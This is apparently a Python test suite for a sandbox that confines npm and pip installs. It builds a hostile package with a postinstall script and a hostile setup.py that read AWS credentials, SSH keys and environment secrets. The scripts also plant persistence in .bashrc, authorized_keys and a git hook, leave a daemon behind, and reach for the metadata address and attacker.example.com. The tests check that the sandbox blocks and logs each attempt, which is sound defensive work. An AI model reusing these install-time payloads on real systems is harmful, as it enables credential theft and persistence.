"""A hostile package, installed by the real package manager from a registry on loopback: its script
gets nothing, nothing remains, and each try is in the log with its name."""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import CREDENTIAL_VARIABLES, SECRET, processes_matching, require, test  # noqa: E402
from local_server import LocalServer  # noqa: E402
from npm_registry import NpmRegistry  # noqa: E402
from python_environment import make_environment  # noqa: E402

FACTS = {"stops": "mounts, broker, commit", "event": "decoy.opened name.lookup change.protected", "seen": "s1ngularity 2025, Shai-Hulud"}

# Writes what it got into its own directory, the one place that reaches the host.
ATTACK = """
const fs = require('fs'), path = require('path'), os = require('os'), net = require('net');
const { execSync, spawn } = require('child_process');
const got = [], home = os.homedir(), project = process.env.INIT_CWD || path.join(__dirname, '../..');
const attempt = (what, run) => { try { got.push([what, String(run())]); } catch (error) { got.push([what, 'blocked: ' + (error.code || error.message.split('\\n')[0])]); } };
attempt('aws', () => fs.readFileSync(home + '/.aws/credentials'));
attempt('ssh', () => fs.readFileSync(home + '/.ssh/id_ed25519'));
attempt('environment', () => JSON.stringify(process.env));
attempt('keys', () => fs.appendFileSync(home + '/.ssh/authorized_keys', 'attacker'));
attempt('bashrc', () => fs.appendFileSync(home + '/.bashrc', 'attacker'));
attempt('hook', () => { fs.mkdirSync(project + '/.git/hooks', { recursive: true }); fs.writeFileSync(project + '/.git/hooks/pre-commit', 'attacker'); });
attempt('source', () => fs.appendFileSync(project + '/index.js', 'attacker'));
spawn(process.execPath, ['-e', 'setInterval(() => {}, 1e6)', '@MARK@'], { detached: true, stdio: 'ignore' }).unref();
const connect = (what, where) => new Promise(done => {
  const socket = net.connect(where);
  const end = text => { got.push([what, text]); socket.destroy(); done(); };
  socket.setTimeout(4000, () => end('blocked: timeout'));
  socket.on('error', error => end('blocked: ' + error.code));
  socket.on('close', () => { if (!got.some(g => g[0] === what)) end('blocked: closed'); });
  let text = '';
  socket.on('data', data => { text += data; });
  socket.on('end', () => end('data ' + text));
  socket.on('connect', () => socket.write('GET / HTTP/1.0\\r\\n\\r\\n'));
});
(async () => {
  await connect('loopback', { host: '127.0.0.1', port: @PORT@ });
  if (@INSIDE@) {
    await connect('metadata', { host: '169.254.169.254', port: 80 });
    await connect('name', { host: 'attacker.example.com', port: 443 });
  }
  fs.writeFileSync(__dirname + '/got.json', JSON.stringify(got));
})();
"""


class Scene:
    def __init__(self, t, inside):
        self.t = t
        self.service = LocalServer({"/": b"the host's own service"})
        self.registry = NpmRegistry()
        self.mark = f"srt-mark-{os.getpid()}-{inside}"
        attack = ATTACK.replace("@PORT@", str(self.service.port)).replace("@MARK@", self.mark)
        # The control run reaches for nothing but this machine's loopback.
        attack = attack.replace("@INSIDE@", "true" if inside else "false")
        self.registry.add("harmless", "1.0.0", {"index.js": "module.exports = 1;\n"})
        self.registry.add(
            "easy-qr-gen", "1.4.2", {"index.js": "", "attack.js": attack},
            scripts={"postinstall": "node attack.js"}, dependencies={"harmless": "^1.0.0"},
        )
        t.write("package.json", json.dumps({"name": "app", "version": "1.0.0", "private": True,
                                            "dependencies": {"easy-qr-gen": "1.4.2"}}))
        t.write("index.js", "the owner's\n")
        t.succeeded(t.bare("git", "init", "-q"))
        self.env = CREDENTIAL_VARIABLES | {"npm_config_registry": self.registry.url()}

    def got(self):
        return dict(json.loads((self.t.project / "node_modules/easy-qr-gen/got.json").read_text()))


@test(time_limit=120, stops="nothing", event="none")
def without_the_sandbox(t):
    """control: without the sandbox the package's script gets everything"""
    scene = Scene(t, inside=False)
    t.succeeded(t.bare("npm", "install", env=scene.env))
    got = scene.got()
    for what in ("aws", "ssh", "environment"):
        t.contains(got[what], SECRET, what)
    t.contains(got["loopback"], "the host's own service")
    for path in (".ssh/authorized_keys", ".bashrc", "project/.git/hooks/pre-commit", "project/index.js"):
        t.contains((t.home / path).read_text(), "attacker", path)
    t.true(processes_matching(scene.mark), "the daemon lives on")


@test(time_limit=120)
def in_the_sandbox(t):
    """in the sandbox it gets nothing, nothing remains, and the log names it"""
    scene = Scene(t, inside=True)
    before = t.fingerprint(t.home)
    options = ["--allow-host", f"localhost:{scene.registry.port}", "--allow-host", "registry.example.com",
               "--on-alert", "log"]
    result = t.sandbox("npm", "install", env=scene.env, options=options, timeout=100)
    t.succeeded(result)
    got = scene.got()
    t.lacks(json.dumps(got), SECRET)
    t.contains(got["aws"], "AKIA", "a decoy")
    t.contains(got["ssh"], "BEGIN OPENSSH", "a decoy")
    for what in ("loopback", "metadata", "name"):
        t.true(got[what].startswith("blocked: "), f"{what}: {got[what]}")
    t.equal(scene.service.requests, [], "the host's service was not asked")
    t.equal(processes_matching(scene.mark), [], "no daemon is left")
    after = t.fingerprint(t.home)
    outside = (".local/", ".cache", ".npm", ".config", "project/node_modules", "project/package")
    changed = [p for p in before.keys() | after.keys()
               if before.get(p) != after.get(p) and not p.startswith(outside) and p != ".local"]
    t.equal(changed, [], "changed in the home")
    t.equal((t.project / "index.js").read_text(), "the owner's\n")

    def by_the_script(event_type, text):
        for event in result.of_type(event_type):
            if text in json.dumps(event["details"]):
                return event
        raise AssertionError(f"no {event_type} with {text}: {result.events}")

    started = by_the_script("script.started", "easy-qr-gen")
    t.equal(started["actor"], {"kind": "script", "package": "easy-qr-gen", "version": "1.4.2",
                               "event": "postinstall"})
    for path in ("/.aws/credentials", "/.ssh/id_ed25519"):
        t.equal(by_the_script("decoy.opened", path)["actor"], started["actor"])
    by_the_script("name.lookup", "attacker.example.com")
    by_the_script("flow.denied", "169.254.169.254")
    by_the_script("change.protected", ".git/hooks")
    by_the_script("change.held", "index.js")
    t.contains(result.err, "ALERT")
    t.contains(result.err, "attacker.example.com")


@test(time_limit=120, stops="network", event="none")
def registry_on_loopback_needs_a_rule(t):
    """a registry on the host's loopback is not reached without a rule, and the hint names the rule"""
    scene = Scene(t, inside=False)
    result = t.sandbox("npm", "install", "--fetch-retries=0", env=scene.env)
    t.true(result.code != 0, result)
    t.equal(scene.registry.requests, [])
    t.contains(result.said, f"--allow-host localhost:{scene.registry.port}")


@test(time_limit=120, stops="decoys", event="decoy.opened")
def exit_code_in_ci(t):
    """in CI an install that ends well although an alert was raised fails with 122"""
    scene = Scene(t, inside=True)
    options = ["--allow-host", f"localhost:{scene.registry.port}"]
    result = t.sandbox("npm", "install", env=scene.env | {"CI": "true"}, options=options, timeout=100)
    t.equal(result.code, 122, result)


@test(time_limit=120, seen="LiteLLM 2026", event="decoy.opened name.lookup")
def python_package(t):
    """the setup.py of a hostile sdist gets nothing, and the log names the distribution"""
    from pypi_index import PypiIndex, system_wheels

    require(system_wheels(), "no setuptools wheel in /usr/share/python-wheels")
    index = PypiIndex()
    index.add_sdist("evil", {"setup.py": """
import os, pathlib
got = {k: v for k, v in os.environ.items()}
try:
    got['file'] = pathlib.Path(os.path.expanduser('~/.aws/credentials')).read_text()
except OSError as error:
    got['file'] = 'blocked: ' + error.strerror
try:
    pathlib.Path(os.path.expanduser('~/.bashrc')).open('a').write('attacker')
except OSError:
    pass
import socket
try:
    socket.gethostbyname('attacker.example.com')
except OSError:
    pass
from setuptools import setup
setup(name='evil', version='1.0', py_modules=['evil'])
""", "evil.py": ""})
    venv = t.project / ".venv"
    make_environment(t, venv)
    result = t.sandbox(venv / "bin/pip", "install", "evil", env=CREDENTIAL_VARIABLES | {"PIP_INDEX_URL": index.url()},
                       options=["--allow-host", f"localhost:{index.port}"], timeout=100)
    t.succeeded(result)
    t.equal((t.home / ".bashrc").read_text(), "# the owner's\n")
    builds = [e for e in result.events if e.get("actor", {}).get("kind") == "build"]
    t.true(any(e["actor"].get("package") == "evil" for e in builds), f"builds: {builds[:5]}")
    opened = [e["actor"] for e in result.of_type("decoy.opened") if e["severity"] == "alert"]
    t.true(opened and all(a["package"] == "evil" for a in opened), f"decoys: {opened}")
    looked = [e for e in result.of_type("name.lookup") if "attacker.example.com" in json.dumps(e)]
    t.true(looked, "the lookup is in the log")
